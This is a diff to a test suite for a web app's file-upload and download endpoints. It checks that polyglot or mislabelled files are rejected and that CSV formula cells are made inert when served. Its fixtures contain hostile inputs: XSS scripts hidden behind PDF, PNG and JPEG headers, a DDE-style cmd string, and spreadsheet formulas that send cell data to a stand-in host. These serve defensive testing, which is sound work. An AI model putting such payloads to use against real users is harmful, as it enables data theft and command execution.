@@ -1,17 +1,46 @@
 import { env } from "cloudflare:test";
 import { eq } from "drizzle-orm";
 import { describe, expect, it } from "vitest";
-import { files } from "../../db/schema";
+import { files, insightRequests } from "../../db/schema";
 import { readUpload } from "../../app/server/files.server";
 import { call, db, signedIn } from "./support";
+import { create, payload } from "./insight-requests-support";
+import { compoundFile, concat, docx, jpeg, openDocument, pdf, png, PNG_SIGNATURE, text, xlsx } from "../support/sample-files";
 
 const UPLOAD = "/api/file-handling/upload-files";
 const TOO_LARGE = "This file is too large. Maximum file size is 16MB.";
 const REJECTED =
   "File was not added. Accepted file types: .doc, .docx, .pdf, .xlsx, .csv, .odt, .ods, .odg, .png, & .jpg";
 
-const PDF_BYTES = new TextEncoder().encode("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n");
-const PNG_BYTES = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
+const PDF_BYTES = pdf();
+const PNG_BYTES = png();
+
+/** One real, well-formed file of every accepted type. */
+const VALID_CORPUS: { name: string; bytes: Uint8Array<ArrayBuffer>; contentType: string }[] = [
+  { name: "statement.pdf", bytes: pdf(), contentType: "application/pdf" },
+  { name: "logo.png", bytes: png({ width: 16, height: 16 }), contentType: "image/png" },
+  { name: "storefront.jpg", bytes: jpeg(), contentType: "image/jpeg" },
+  { name: "receipt.JPEG", bytes: jpeg({ comment: "scanned" }), contentType: "image/jpeg" },
+  { name: "revenue.csv", bytes: text("month,revenue\n2026-01,-1200.50\n"), contentType: "text/csv; charset=utf-8" },
+  { name: "letter.doc", bytes: compoundFile("WordDocument"), contentType: "application/msword" },
+  { name: "budget.xls", bytes: compoundFile("Workbook"), contentType: "application/vnd.ms-excel" },
+  { name: "suppliers.docx", bytes: docx(), contentType: "application/vnd.openxmlformats-officedocument.wordprocessingml.document" },
+  { name: "forecast.xlsx", bytes: xlsx(), contentType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" },
+  { name: "notes.odt", bytes: openDocument("odt"), contentType: "application/vnd.oasis.opendocument.text" },
+  { name: "stock.ods", bytes: openDocument("ods"), contentType: "application/vnd.oasis.opendocument.spreadsheet" },
+  { name: "floorplan.odg", bytes: openDocument("odg"), contentType: "application/vnd.oasis.opendocument.graphics" },
+];
+
+/** A PDF whose header is followed by an HTML page: a PDF reader and a browser both open it. */
+function pdfHtmlPolyglot(): Uint8Array<ArrayBuffer> {
+  const base = pdf();
+  const headerEnd = base.indexOf(0x0a) + 1;
+  return concat(
+    base.subarray(0, headerEnd),
+    text("%<!doctype html><html><body><script>fetch('/api/client/auth').then(r=>r.text()).then(alert)</script></body></html>\n"),
+    base.subarray(headerEnd),
+  );
+}
 
 type Part = { name: string; bytes: BlobPart; type?: string };
 
@@ -140,6 +169,16 @@ describe("POST /api/file-handling/upload-files", () => {
       { name: "data.csv", bytes: "<html><body>hi</body></html>" },
       { name: "tool.exe", bytes: "MZ\x90\x00" },
       { name: "README", bytes: "hello" },
+      // Right magic bytes, wrong file: each would pass a first-bytes check.
+      { name: "invoice.pdf", bytes: pdfHtmlPolyglot() },
+      { name: "chart.png", bytes: concat(PNG_SIGNATURE, text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')) },
+      { name: "proposal.docx", bytes: text("PK\x03\x04<html><body><script>alert(1)</script></body></html>") },
+      { name: "photo.jpg", bytes: concat(new Uint8Array([0xff, 0xd8, 0xff, 0xe0]), text("<html><script>alert(1)</script></html>")) },
+      { name: "sheet.xlsx", bytes: docx() },
+      { name: "letter.doc", bytes: compoundFile("Workbook") },
+      { name: "notes.odt", bytes: openDocument("ods") },
+      { name: "cut.png", bytes: PNG_BYTES.slice(0, PNG_BYTES.length - 12) },
+      { name: "cut.pdf", bytes: PDF_BYTES.slice(0, PDF_BYTES.length - 20) },
     ];
     for (const part of cases) {
       const response = await upload(form([part]), token);
@@ -147,6 +186,22 @@ describe("POST /api/file-handling/upload-files", () => {
       expect(await response.json(), part.name).toEqual({ msg: REJECTED });
     }
     await expectNothingStored(business!.id);
+  });
+
+  it("accepts one real file of every type with the server's content type", async () => {
+    const { business, token } = await signedIn({ withBusiness: true });
+    const response = await upload(form(VALID_CORPUS.slice(0, 10).map(({ name, bytes }) => ({ name, bytes }))), token);
+    expect(response.status).toBe(201);
+    const rest = await upload(form(VALID_CORPUS.slice(10).map(({ name, bytes }) => ({ name, bytes }))), token);
+    expect(rest.status).toBe(201);
+    const stored = [
+      ...((await response.json()) as { files: { originalName: string; contentType: string; size: number }[] }).files,
+      ...((await rest.json()) as { files: { originalName: string; contentType: string; size: number }[] }).files,
+    ];
+    expect(stored).toEqual(
+      VALID_CORPUS.map(({ name, bytes, contentType }) => expect.objectContaining({ originalName: name, contentType, size: bytes.length })),
+    );
+    expect(await objectCount(business!.id)).toBe(VALID_CORPUS.length);
   });
 
   it("stores nothing when any file of the upload is refused", async () => {
@@ -224,6 +279,44 @@ describe("GET /api/file-handling/get-file/{fileName}", () => {
     );
     expect(response.headers.get("X-Content-Type-Options")).toBe("nosniff");
     expect(response.headers.get("Cache-Control")).toBe("private, no-store");
+  });
+
+  it("serves a CSV with its formula cells made inert, keeping the stored original", async () => {
+    const owner = await signedIn({ withBusiness: true });
+    const original = 'name,link,amount\r\nDana,=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n';
+    const response = await upload(form([{ name: "contacts.csv", bytes: original }]), owner.token);
+    expect(response.status).toBe(201);
+    const { files: uploaded } = (await response.json()) as { files: { fileName: string }[] };
+
+    const download = await call(`/api/file-handling/get-file/${uploaded[0].fileName}`, { cookie: owner.token });
+    expect(download.status).toBe(200);
+    expect(await download.text()).toBe(
+      'name,link,amount\r\nDana,\'=HYPERLINK("https://evil.test/?d="&A1,"Click"),-1200.50\r\n"\'@SUM(1+1)*cmd|\' /C calc\'!A0",+1 555 0100,3\r\n',
+    );
+    expect(download.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
+    expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="contacts.csv"; filename*=UTF-8''contacts.csv`);
+    expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
+
+    const stored = await env.FILES.get(`biz/${owner.business!.id}/${uploaded[0].fileName}`);
+    expect(await stored!.text()).toBe(original);
+    const [row] = await rowsOf(owner.business!.id);
+    expect(row.sha256).toBe(await sha256(text(original)));
+  });
+
+  it("serves the assigned manager the same inert CSV", async () => {
+    const owner = await signedIn({ withBusiness: true });
+    const uploaded = await upload(form([{ name: "links.csv", bytes: "site\n=WEBSERVICE(\"https://evil.test\")\n" }]), owner.token);
+    const fileName = ((await uploaded.json()) as { files: { fileName: string }[] }).files[0].fileName;
+    const created = await create(owner.token, payload(owner.business!.id, { files: [fileName] }));
+    const requestId = ((await created.json()) as { insightRequest: { _id: string } }).insightRequest._id;
+    const manager = await signedIn({ role: "manager" });
+    await db().update(insightRequests).set({ assignedManagerId: manager.user.id }).where(eq(insightRequests.id, requestId));
+
+    const download = await call(`/api/file-handling/get-file/${fileName}`, { cookie: manager.token });
+    expect(download.status).toBe(200);
+    expect(await download.text()).toBe(`site\n'=WEBSERVICE("https://evil.test")\n`);
+    expect(download.headers.get("Content-Disposition")).toBe(`attachment; filename="links.csv"; filename*=UTF-8''links.csv`);
+    expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
   });
 
   it("answers another business, a missing file and a malformed name with the same 404", async () => {
